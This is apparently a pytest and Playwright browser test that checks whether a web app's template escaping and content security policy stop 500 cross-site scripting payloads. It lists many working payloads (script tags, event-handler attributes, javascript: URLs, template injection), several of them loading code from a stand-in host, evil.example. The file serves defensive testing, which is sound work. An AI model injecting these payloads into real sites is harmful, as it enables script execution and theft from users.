"""Words of documents that would run in a page: 500 of them in every field, and none runs (goal 13)."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice, product
from pathlib import Path

import pytest

pytest.importorskip("playwright", reason="playwright is not installed")

from playwright.sync_api import Browser
from starlette.datastructures import MutableHeaders
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from tenderlight.web import showing
from tests.browser.served import Watched, served_desk
from tests.memory_disk import memory_folder
from tests.web.made_desk import make_hostile_case

OPENERS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</svg>",
    "</option></select>",
    "</a>",
)
"""What would end the place that the words stand in."""
BODIES = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<form action=javascript:alert(1)><input type=submit autofocus onfocus=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<audio src=x onerror=alert(1)>",
    "<div style=animation-name:x onanimationstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<div hx-get=//evil.example/ hx-trigger=load>",
    "<div hx-on:htmx:load=alert(1)>",
    "<div data-hx-on--load=alert(1)>",
    "<b onmouseover=alert(1) style=position:fixed;inset:0>",
    "javascript:alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% raw %}{{ 7*7 }}",
    "\u2028<img src=x onerror=alert(1)>",
    "\u202e<img src=x onerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "<scr\x01ipt>alert(1)</script>".replace("\x01", ""),
    "<<script>alert(1)//<</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
PAYLOADS = tuple(islice(dict.fromkeys(opener + body for opener, body in product(OPENERS, BODIES)), 500))
A_PAGE = 50


@pytest.fixture(scope="module")
def folder() -> Iterator[Path]:
    with memory_folder() as place:
        yield make_hostile_case(place / "case", PAYLOADS)


def looked_at(browser: Browser, link: str, *, pages: int) -> Watched:
    """Open pages that hold the payloads, and say what the browser did."""
    base = link.partition("/enter")[0]
    context = browser.new_context()
    watched = Watched()
    watched.watch(context, base)
    page = context.new_page()
    page.goto(link)
    claims = page.request.get(f"{base}/claims.json?kind=title").json()["claims"]
    contract, claim = claims[0]["contract"], claims[0]["claim"]
    lists = [f"/claims?kind=title&page={number + 1}" for number in range(pages)]
    for address in (*lists, "/contracts", f"/contracts/{contract}", f"/claims/{claim}", "/queue", "/", "/unread"):
        page.goto(base + address, wait_until="domcontentloaded")
        page.wait_for_timeout(30)
    context.close()
    return watched


def test_none_of_500_runs_on_any_page(browser: Browser, folder: Path) -> None:
    assert len(set(PAYLOADS)) == 500
    with served_desk(folder) as link:
        watched = looked_at(browser, link, pages=500 // A_PAGE)
    assert (watched.ran, watched.elsewhere) == (0, [])


def test_without_escaping_the_policy_still_holds(browser: Browser, folder: Path, unescaped: None) -> None:
    with served_desk(folder) as link:
        watched = looked_at(browser, link, pages=1)
    assert watched.ran == 0
    assert watched.errors, "the policy has refused what would have run"


def test_what_runs_is_seen_to_run(browser: Browser, folder: Path, unescaped: None) -> None:
    with served_desk(folder, around=without_policy) as link:
        watched = looked_at(browser, link, pages=1)
    assert watched.ran, "with escaping and policy gone, this test must be able to fail"


@pytest.fixture
def unescaped() -> Iterator[None]:
    """Have templates escape nothing, for the test."""
    environment = showing.environment()
    environment.autoescape = False
    environment.cache.clear()  # type: ignore[union-attr]
    yield
    showing.environment.cache_clear()


def without_policy(app: ASGIApp) -> ASGIApp:
    """Take the content policy off every answer."""

    async def answer(scope: Scope, receive: Receive, send: Send) -> None:
        async def sending(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = MutableHeaders(scope=message)
                if "content-security-policy" in headers:
                    del headers["content-security-policy"]
            await send(message)

        await app(scope, receive, sending)

    return answer
